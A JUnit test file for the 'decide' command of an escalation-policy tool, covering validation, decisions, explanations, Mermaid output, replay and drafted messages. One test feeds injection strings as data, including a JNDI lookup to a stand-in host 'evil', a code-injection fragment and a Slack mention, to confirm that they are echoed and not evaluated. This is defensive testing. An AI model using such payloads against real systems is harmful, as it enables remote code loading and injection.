package dev.escalation.examples;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code decide} through the examples jar's entry point: output, exit status, error lines. */
class DecideTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ACME = "\"account\":{\"name\":\"Acme Corp\",\"segment\":\"CSM_MANAGED\"}";
    private static final String NOW = "\"now\":\"2026-03-02T15:30:00Z\"";

    private static JsonNode json(String text) {
        try {
            return JSON.readTree(text);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new AssertionError("not JSON: " + text, e);
        }
    }

    @Test
    void aCaseOnStandardInputIsDecided() throws Exception {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME
                + ",\"emergency\":{\"ticketId\":\"ZD-1\",\"startedAt\":\"2026-03-02T12:29:00Z\"}}", "decide");

        assertThat(run.status()).isZero();
        assertThat(run.err()).isEmpty();
        JsonNode decision = json(run.out());
        assertThat(decision.get("inScope").booleanValue()).isTrue();
        assertThat(decision.at("/conversion/recommended").booleanValue()).isTrue();
        assertThat(decision.at("/conversion/triggers/0").textValue()).isEqualTo("LONG_RUNNING_NO_RESOLUTION");
        assertThat(decision.get("routes")).hasSize(1);
        assertThat(decision.has("plan")).isFalse();
        assertThat(decision.has("closure")).isFalse();
        assertThat(decision.has("broadcast")).isFalse();
        assertThat(decision.get("explanation").findValuesAsText("reason"))
                .contains("emergency running 3 h 1 min, over 3 h (default), with no clear resolution in sight");
    }

    @Test
    void aCaseInAFileIsDecided() {
        CommandRun run = CommandRun.of("", "decide", Path.of("samples", "opening.json").toString());

        assertThat(run.status()).isZero();
        assertThat(run.out()).contains("\"channel\" : \"#esc_globex_corporation\"");
    }

    @Test
    void onlyTheAccountIsNeeded() throws Exception {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + "}", "decide");

        assertThat(run.status()).isZero();
        JsonNode decision = json(run.out());
        assertThat(decision.properties()).extracting(java.util.Map.Entry::getKey)
                .containsExactly("inScope", "findings", "upcoming", "explanation", "policyVersion");
        assertThat(decision.get("upcoming").isEmpty()).isTrue();
    }

    @Test
    void badInputExitsTwoWithOneLineNamingEveryField() {
        CommandRun run = CommandRun.of("{" + NOW + ",\"account\":{\"name\":\"\",\"segment\":\"GOLD\"},"
                + "\"emergency\":{\"ticketId\":\"T\",\"startedAt\":\"2026-03-03T00:00:00Z\","
                + "\"upgradeRelatedProblems\":-1},\"event\":\"PARTY\",\"extra\":true}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err().lines()).singleElement().satisfies(line -> assertThat(line)
                .startsWith("decide: invalid input: ")
                .contains("extra: unknown field", "account.segment: unknown value \"GOLD\"",
                        "event: unknown value \"PARTY\"", "account.name: must not be blank",
                        "emergency.startedAt: must not be after now", "emergency.upgradeRelatedProblems: must not be negative")
                .doesNotContain("Exception", "\tat "));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "{", "[]", "{\"now\":\"2026-03-02T15:30:00Z\"} {}", "{\"a\":1,\"a\":2}", "42"})
    void malformedInputExitsTwoWithOneLine(String input) {
        CommandRun run = CommandRun.of(input, "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err().lines()).singleElement().asString().startsWith("decide: invalid input: ")
                .doesNotContain("\tat ");
    }

    @Test
    void aMissingRequiredFieldIsNamed() {
        CommandRun run = CommandRun.of("{\"account\":{\"segment\":\"OTHER\"}}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("decide: invalid input: now: is required; account.name: is required\n");
    }

    @Test
    void wrongTypesAndDuplicatesAreNamed() {
        CommandRun run = CommandRun.of("{" + NOW + ",\"account\":{\"name\":7,\"segment\":\"OTHER\","
                + "\"strategicPartnership\":\"yes\",\"team\":[]},\"emergency\":{\"ticketId\":\"T\","
                + "\"startedAt\":\"yesterday\",\"upgradeRelatedProblems\":1.5,"
                + "\"blockedInitiatives\":[\"RENEWAL\",\"RENEWAL\"]}}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).contains("account.name: must be a string", "account.strategicPartnership: must be true or false",
                "account.team: must be a JSON object", "emergency.startedAt: must be an ISO-8601 instant",
                "emergency.upgradeRelatedProblems: must be a whole number",
                "emergency.blockedInitiatives: must not name a value twice");
    }

    @Test
    void aMissingFileExitsTwo() {
        CommandRun run = CommandRun.of("", "decide", "no/such/case.json");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("decide: cannot read no/such/case.json: no such file\n");
    }

    @Test
    void jsonLinesAnswerLineByLineAndReportBadLinesInPlace() throws Exception {
        String good = "{" + NOW + "," + ACME + ",\"event\":\"CLOSED\"}";
        CommandRun run = CommandRun.of(good + "\n{\"now\":1}\n\n" + good + "\n", "decide", "--jsonl");

        assertThat(run.status()).isEqualTo(2);
        var lines = run.out().lines().toList();
        assertThat(lines).hasSize(4);
        assertThat(json(lines.get(0)).get("broadcast").booleanValue()).isTrue();
        assertThat(json(lines.get(1)).get("line").intValue()).isEqualTo(2);
        assertThat(json(lines.get(1)).get("error").textValue()).contains("now: must be an ISO-8601 instant");
        assertThat(json(lines.get(2)).get("line").intValue()).isEqualTo(3);
        assertThat(lines.get(3)).isEqualTo(lines.get(0));
    }

    @Test
    void jsonLinesOfGoodCasesExitZero() {
        String good = "{" + NOW + "," + ACME + "}";

        assertThat(CommandRun.of(good + "\n" + good + "\n", "decide", "--jsonl").status()).isZero();
    }

    @Test
    void jsonLinesOnSeveralThreadsKeepTheirOrder() throws Exception {
        String batch = java.nio.file.Files.readString(Path.of("samples", "batch.jsonl")).repeat(50);

        CommandRun one = CommandRun.of(batch, "decide", "--jsonl");
        CommandRun two = CommandRun.of(batch, "decide", "--jsonl", "--threads", "2");

        assertThat(two.status()).isEqualTo(one.status()).isEqualTo(2);
        assertThat(two.out()).isEqualTo(one.out());
        assertThat(two.out().lines()).hasSize(200);
        assertThat(CommandRun.of("", "decide", "--threads", "2").err()).contains("--threads needs --jsonl");
        assertThat(CommandRun.of("", "decide", "--jsonl", "--threads", "0").status()).isEqualTo(2);
    }

    @Test
    void explainWritesTheReasonsToStandardError() {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + ",\"event\":\"STANDUP\"}", "decide", "--explain");

        assertThat(run.status()).isZero();
        assertThat(run.err()).startsWith("Why, as of 2026-03-02T15:30:00Z:")
                .contains("[2.9] Any other event stays out of #escalated_customers",
                        "S2: Posting in escalated_customers -- STANDUP is not a key moment");
    }

    @Test
    void mermaidHighlightsThePathToTheDri() {
        CommandRun run = CommandRun.of("", "decide", "--format", "mermaid", Path.of("samples", "closing.json").toString());

        assertThat(run.status()).isZero();
        assertThat(run.out()).startsWith("flowchart TD\n")
                .contains("    B -->|Yes| C\n", "    %% DRI: PS_PROJECT_MANAGER (Pat Quinn)\n",
                        "    class A,B,C taken\n", "    linkStyle 0,1 stroke:");
    }

    @Test
    void mermaidForAnAccountExecutiveOfATamScaleAccountGoesOnToTheCse() {
        CommandRun run = CommandRun.of("", "decide", "--format", "mermaid", Path.of("samples", "opening.json").toString());

        assertThat(run.out()).contains("    class A,B,D,F,G,H taken\n", "    linkStyle 0,2,4,5,6 stroke:");
    }

    @Test
    void mermaidForAnAccountExecutiveOfAnotherSegmentSkipsTheTamScaleNode() {
        CommandRun run = CommandRun.of("{" + NOW + ",\"account\":{\"name\":\"Acme\",\"segment\":\"CSM_MANAGED\","
                + "\"team\":{\"accountExecutive\":\"Alex\\nclass Z evil\"}},\"escalation\":{\"severity\":\"LOW\","
                + "\"openedAt\":\"2026-03-02T15:00:00Z\"}}", "decide", "--format", "mermaid");

        assertThat(run.out()).contains("    class A,B,D,G taken\n", "    linkStyle 0,2,7 stroke:",
                "    %% DRI: ACCOUNT_EXECUTIVE (Alex class Z evil)\n");
    }

    @Test
    void aNullAmongBlockedInitiativesIsNamed() {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + ",\"emergency\":{\"ticketId\":\"T\","
                + "\"startedAt\":\"2026-03-02T15:00:00Z\",\"blockedInitiatives\":[\"RENEWAL\",null]}}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).contains("emergency.blockedInitiatives: must not contain null");
    }

    @Test
    void mermaidWithoutAnEscalationHighlightsNothing() {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + "}", "decide", "--format", "mermaid");

        assertThat(run.status()).isZero();
        assertThat(run.out()).contains("%% no DRI was decided").doesNotContain("classDef");
    }

    /** Hostile text is data: it comes back verbatim (JSON-escaped), nothing is evaluated. */
    @ParameterizedTest
    @ValueSource(strings = {"\"); System.exit(1); //", "${jndi:ldap://evil/x}", "#{7*7}", "<!channel>", "\\\"quoted\\\""})
    void hostileTextComesBackVerbatim(String text) throws Exception {
        String quoted = JSON.writeValueAsString(text);
        CommandRun run = CommandRun.of("{" + NOW + ",\"account\":{\"name\":" + JSON.writeValueAsString(text + " Co")
                + ",\"segment\":\"CSM_MANAGED\",\"team\":{\"csm\":" + quoted + "}},\"escalation\":{\"severity\":"
                + "\"LOW\",\"openedAt\":\"2026-03-02T15:00:00Z\",\"channel\":{\"name\":" + quoted + "}}}", "decide");

        assertThat(run.status()).as(run.err()).isZero();
        JsonNode decision = json(run.out());
        assertThat(decision.at("/plan/dri/name").textValue()).isEqualTo(text);
        assertThat(decision.get("findings").findValuesAsText("channel")).contains(text);
    }

    @Test
    void settingsChangeTheDecisionAndTheExplanationSaysSo() throws Exception {
        String emergency = "{" + NOW + "," + ACME + ",\"emergency\":{\"ticketId\":\"T\",\"startedAt\":"
                + "\"2026-03-02T13:00:00Z\"}}";

        JsonNode standard = json(CommandRun.of(emergency, "decide").out());
        CommandRun tuned = CommandRun.of(emergency, "decide", "--settings", "samples/settings.json");

        assertThat(tuned.status()).isZero();
        JsonNode decision = json(tuned.out());
        assertThat(standard.at("/conversion/recommended").booleanValue()).isFalse();
        assertThat(decision.at("/conversion/recommended").booleanValue()).isTrue();
        assertThat(decision.get("explanation").findValuesAsText("reason"))
                .contains("emergency running 2 h 30 min, over 2 h (override), with no clear resolution in sight");
        assertThat(decision.get("policyVersion").textValue()).isNotEqualTo(standard.get("policyVersion").textValue());
    }

    @Test
    void badSettingsAreNamedInOneLine() throws Exception {
        java.nio.file.Path settings = java.nio.file.Files.createTempFile("settings", ".json");
        java.nio.file.Files.writeString(settings, "{\"callLimit\":\"PT0S\",\"conversionThreshold\":\"3h\","
                + "\"nope\":1,\"customerUpdateGaps\":{\"HOURLY\":\"PT1H\"},\"upgradeProblemCount\":0}");

        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + "}", "decide", "--settings", settings.toString());

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err().lines()).singleElement().asString().startsWith("decide: invalid settings: ")
                .contains("settings.conversionThreshold: must be an ISO-8601 duration", "settings.nope: unknown setting",
                        "settings.customerUpdateGaps.HOURLY: unknown cadence",
                        "settings.callLimit: must be a positive duration", "settings.upgradeProblemCount: must be at least 1");
    }

    @Test
    void theSettingsOfVersion3AreReadAndMadePartOfThePolicyVersion() throws Exception {
        java.nio.file.Path settings = java.nio.file.Files.createTempFile("settings", ".json");
        java.nio.file.Files.writeString(settings, "{\"handoverWindow\":\"PT30M\",\"managerStepInAfter\":\"P2D\","
                + "\"gainsightSync\":\"PT3H\",\"closingStepsGrace\":\"PT12H\"}");
        String input = "{" + NOW + "," + ACME + "}";

        CommandRun tuned = CommandRun.of(input, "decide", "--settings", settings.toString());

        assertThat(tuned.status()).isZero();
        assertThat(tuned.err()).isEmpty();
        assertThat(json(tuned.out()).get("policyVersion").textValue())
                .isNotEqualTo(json(CommandRun.of(input, "decide").out()).get("policyVersion").textValue());
    }

    @Test
    void badSettingsOfVersion3AreNamedInOneLine() throws Exception {
        java.nio.file.Path settings = java.nio.file.Files.createTempFile("settings", ".json");
        java.nio.file.Files.writeString(settings, "{\"handoverWindow\":\"1h\",\"managerStepInAfter\":\"PT0S\","
                + "\"gainsightSync\":\"-PT2H\",\"closingStepsGrace\":\"P4000D\"}");

        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + "}", "decide", "--settings", settings.toString());

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).isEqualTo("decide: invalid settings: settings.handoverWindow: must be an ISO-8601 "
                + "duration such as PT3H or P14D (was \"1h\"); settings.managerStepInAfter: must be a positive duration "
                + "(was PT0S); settings.gainsightSync: must be a positive duration (was PT-2H); "
                + "settings.closingStepsGrace: must be at most PT87600H (was PT96000H)\n");
    }

    /** A shift that ends after now, and version 3's activities, the closing steps after closing among them. */
    @Test
    void aCaseOfVersion3IsDecided() throws Exception {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + ",\"emergency\":{\"ticketId\":\"ZD-1\","
                + "\"startedAt\":\"2026-03-02T14:00:00Z\",\"shiftEndsAt\":\"2026-03-02T18:00:00Z\"},"
                + "\"escalation\":{\"severity\":\"HIGH\",\"openedAt\":\"2026-02-20T10:00:00Z\","
                + "\"closedAt\":\"2026-03-01T10:00:00Z\",\"activity\":["
                + "{\"kind\":\"RISK_REDUCED\",\"at\":\"2026-02-27T10:00:00Z\"},"
                + "{\"kind\":\"INVOLVED_INFORMED\",\"at\":\"2026-02-20T10:30:00Z\"},"
                + "{\"kind\":\"PRODUCT_DRI_ADDED\",\"at\":\"2026-02-20T11:00:00Z\"},"
                + "{\"kind\":\"GAINSIGHT_CTA_CREATED\",\"at\":\"2026-02-20T12:00:00Z\"},"
                + "{\"kind\":\"CLOSURE_POSTED\",\"at\":\"2026-03-01T11:00:00Z\"},"
                + "{\"kind\":\"CLOSURE_ANNOUNCED\",\"at\":\"2026-03-01T12:00:00Z\"},"
                + "{\"kind\":\"CHANNEL_ARCHIVED\",\"at\":\"2026-03-02T09:00:00Z\"},"
                + "{\"kind\":\"SENTIMENT_UPDATED\",\"at\":\"2026-03-02T15:30:00Z\"}]},\"event\":\"CLOSED\"}",
                "decide");

        assertThat(run.status()).isZero();
        assertThat(run.err()).isEmpty();
        JsonNode decision = json(run.out());
        assertThat(decision.at("/conversion/unmet").isArray()).isTrue();
        assertThat(decision.at("/plan/state").isTextual()).isTrue();
        assertThat(decision.get("upcoming").isArray()).isTrue();
    }

    @Test
    void aShiftEndThatIsNoInstantIsNamed() {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + ",\"emergency\":{\"ticketId\":\"ZD-1\","
                + "\"startedAt\":\"2026-03-02T14:00:00Z\",\"shiftEndsAt\":\"tonight\"}}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("decide: invalid input: emergency.shiftEndsAt: must be an ISO-8601 instant "
                + "such as 2026-03-02T15:30:00Z (was \"tonight\")\n");
    }

    @Test
    void customRulesJoinTheDecision() throws Exception {
        CommandRun run = CommandRun.of("", "decide", "--rules", "samples/renewals.drl", "samples/renewal-blocked.json");

        assertThat(run.status()).as(run.err()).isZero();
        JsonNode decision = json(run.out());
        assertThat(decision.get("findings").findValuesAsText("code")).containsExactly("SEVERITY_BELOW_TEAM_POLICY");
        assertThat(decision.get("explanation").findValuesAsText("section")).contains("Team policy: strategic renewals");
    }

    @Test
    void rulesThatDoNotCompileExitTwoWithFileAndLine() throws Exception {
        java.nio.file.Path rules = java.nio.file.Files.createTempFile("broken", ".drl");
        java.nio.file.Files.writeString(rules, "package x;\nrule \"r\"\nwhen\n    Nope()\nthen\nend\n");

        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + "}", "decide", "--rules", rules.toString());

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("decide: the policy's rules do not compile: " + rules.getFileName()
                + ":4:0: Unable to resolve ObjectType 'Nope'\n");
    }

    @Test
    void replayPrintsOneLinePerPointInTime() throws Exception {
        CommandRun run = CommandRun.of("", "decide", "--replay", "P1D", "samples/daily-review.json");

        assertThat(run.status()).as(run.err()).isZero();
        var lines = run.out().lines().map(DecideTest::json).toList();
        assertThat(lines.get(0).get("at").textValue()).isEqualTo("2026-03-02T09:00:00Z");
        assertThat(lines.get(lines.size() - 1).get("at").textValue()).isEqualTo("2026-03-10T17:00:00Z");
        assertThat(lines).allSatisfy(line -> assertThat(line.has("appeared") && line.has("cleared")
                && line.has("findings") && line.has("policyVersion")).isTrue());
        assertThat(lines.stream().flatMap(l -> l.get("appeared").findValuesAsText("code").stream()))
                .contains("INTERNAL_UPDATE_OVERDUE", "CUSTOMER_UPDATES_TOO_FEW", "NEXT_TOUCHPOINT_MISSING");
    }

    @Test
    void replayFromAGivenInstant() throws Exception {
        CommandRun run = CommandRun.of("", "decide", "--replay", "PT12H", "--from", "2026-03-10T05:00:00Z",
                "samples/daily-review.json");

        assertThat(run.out().lines()).extracting(line -> json(line).get("at").textValue())
                .containsExactly("2026-03-10T05:00:00Z", "2026-03-10T17:00:00Z");
    }

    @Test
    void messagesAreDraftedAtTheirMoment() {
        CommandRun run = CommandRun.of("", "decide", "samples/opening.json");

        JsonNode messages = json(run.out()).get("messages");
        assertThat(messages.properties()).extracting(java.util.Map.Entry::getKey)
                .containsExactly("declaration", "channelOpening");
        assertThat(messages.at("/declaration/missing")).extracting(JsonNode::textValue)
                .containsExactly("links.meetingNotes", "productDri");
        assertThat(messages.at("/declaration/text").textValue()).startsWith("*New Escalation*\n• *Customer*: Globex")
                .contains("<https://gitlab.my.salesforce.com/500X000001|escalation case>");
    }

    @Test
    void aLinkThatIsNotHttpsIsNamed() {
        CommandRun run = CommandRun.of("{" + NOW + "," + ACME + ",\"escalation\":{\"severity\":\"LOW\","
                + "\"openedAt\":\"2026-03-02T15:00:00Z\",\"links\":{\"caseUrl\":\"http://x\",\"wiki\":\"y\"}}}", "decide");

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).contains("escalation.links.wiki: unknown field",
                "escalation.links.caseUrl: must be an https URL");
    }

    @Test
    void helpAndUsageErrors() {
        assertThat(CommandRun.of("", "decide", "--help").out())
                .contains("usage: java -jar escalation-examples.jar decide", "standupGaps", "\"calendar\"",
                        "shiftEndsAt", "RISK_REDUCED", "SENTIMENT_UPDATED", "nextReviewAt", "handoverWindow",
                        "managerStepInAfter", "gainsightSync", "closingStepsGrace");
        CommandRun unknown = CommandRun.of("", "decide", "--loud");
        assertThat(unknown.status()).isEqualTo(2);
        assertThat(unknown.err()).isEqualTo("decide: unknown option --loud (try: decide --help)\n");
        assertThat(CommandRun.of("", "decide", "--format", "yaml").status()).isEqualTo(2);
        assertThat(CommandRun.of("", "decide", "--jsonl", "--format", "mermaid").status()).isEqualTo(2);
        assertThat(CommandRun.of("", "decide", "a.json", "b.json").status()).isEqualTo(2);
        assertThat(CommandRun.of("", "decide", "--replay", "6h").err()).contains("--replay needs an ISO-8601 duration");
        assertThat(CommandRun.of("", "decide", "--from", "2026-03-02T15:30:00Z").status()).isEqualTo(2);
        assertThat(CommandRun.of("", "decide", "--jsonl", "--replay", "PT1H").status()).isEqualTo(2);
        assertThat(CommandRun.of("", "decide", "--settings", "no/such.json").err())
                .isEqualTo("decide: cannot read no/such.json: no such file\n");
    }
}
